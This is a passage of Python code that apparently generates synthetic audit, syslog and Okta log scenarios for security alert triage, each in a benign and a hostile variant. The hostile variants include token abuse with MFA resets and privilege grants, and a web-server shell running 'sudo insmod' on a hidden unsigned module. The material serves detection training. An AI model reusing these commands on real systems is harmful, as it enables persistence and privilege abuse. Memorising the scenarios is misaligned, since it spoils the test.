        file,
        stage.at(days=0, hours=10, minutes=5),
        collector,
        "system.api_token.create",
        "Create API token",
        office_,
    )
    for number in range(90):
        okta(stage, file, stage.at(hours=10.5 + number), collector, "system.log.read" if number % 3 else "app.oauth2.token.grant.access_token", "Read system log by API", siem)  # fmt: skip
    if hostile:
        there = stage.outside()
        for number, (event, text) in enumerate((("user.lifecycle.list", "List users by API"), ("group.user_membership.add", "Add user to group membership"), ("user.mfa.factor.reset_all", "Reset all factors for user"), ("user.account.privilege.grant", "Grant user privilege"))):  # fmt: skip
            okta(stage, file, stage.at(days=3, hours=4, minutes=number), collector, event, text, there, target=stage.people[1], country="Russia")  # fmt: skip
    stage.alert = {"title": "API token created and used from a new address", "user": collector, "ip": there if hostile else siem, "time": stage.at(days=3, hours=4).isoformat() if hostile else stage.at(hours=10.5).isoformat()}  # fmt: skip
    stage.asked = "Is the token stolen?"


@pair(
    "kernel modules",
    "linux",
    "the module lies in /tmp, was built by nobody's package, and the web server's shell loads it",
)
def modules_built_after_kernel_update(stage: Stage, hostile: bool) -> None:
    audit_days(stage, "audit.log", days=4, events=40)
    unix_days(stage, "syslog", ["ws-lab1"], days=4, events=70)
    at = {"days": 3, "hours": 6, "minutes": 20}
    apt = audit(stage, "audit.log", stage.at(**at), "/usr/bin/apt-get", ("apt-get", "-y", "dist-upgrade"), parent=812)
    dpkg = audit(
        stage, "audit.log", stage.at(**at, seconds=20), "/usr/bin/dpkg", ("dpkg", "--configure", "-a"), parent=apt
    )
    dkms = audit(stage, "audit.log", stage.at(**at, seconds=40), "/usr/sbin/dkms", ("dkms", "autoinstall", "--kernelver", "6.8.0-52-generic"), parent=dpkg)  # fmt: skip
    for number, words in enumerate((("make", "-j4", "KERNELRELEASE=6.8.0-52-generic"), ("depmod", "-a", "6.8.0-52-generic"), ("modprobe", "vboxdrv"))):  # fmt: skip
        audit(stage, "audit.log", stage.at(**at, seconds=60 + 30 * number), "/usr/bin/make" if number == 0 else "/usr/bin/kmod", words, parent=dkms, key="modules")  # fmt: skip
    syslog(stage, "syslog", stage.at(**at, seconds=130), "ws-lab1", "kernel", "[81204.118211] vboxdrv: loading out-of-tree module taints kernel.")  # fmt: skip
    syslog(
        stage,
        "syslog",
        stage.at(**at, seconds=130),
        "ws-lab1",
        "kernel",
        "[81204.120001] vboxdrv: Found 8 processor cores",
    )
    if hostile:
        late = {"days": 3, "hours": 23}
        shell = audit(
            stage, "audit.log", stage.at(**late), "/usr/bin/dash", ("sh", "-c", "uname -r"), uid=33, parent=1210
        )
        audit(stage, "audit.log", stage.at(**late, minutes=1), "/usr/bin/sudo", ("sudo", "insmod", "/tmp/.x/hid.ko"), uid=33, parent=shell)  # fmt: skip
        audit(stage, "audit.log", stage.at(**late, minutes=1, seconds=1), "/usr/bin/kmod", ("insmod", "/tmp/.x/hid.ko"), login=33, parent=shell, key="modules")  # fmt: skip
        syslog(stage, "syslog", stage.at(**late, minutes=1, seconds=2), "ws-lab1", "kernel", "[99204.118211] hid: module verification failed: signature and/or required key missing - tainting kernel")  # fmt: skip
    stage.alert = {"title": "Kernel module loaded", "host": "ws-lab1", "time": stage.at(days=3, hours=23, minutes=1).isoformat() if hostile else stage.at(**at, seconds=120).isoformat()}  # fmt: skip
    stage.asked = "Is there a rootkit on the machine?"
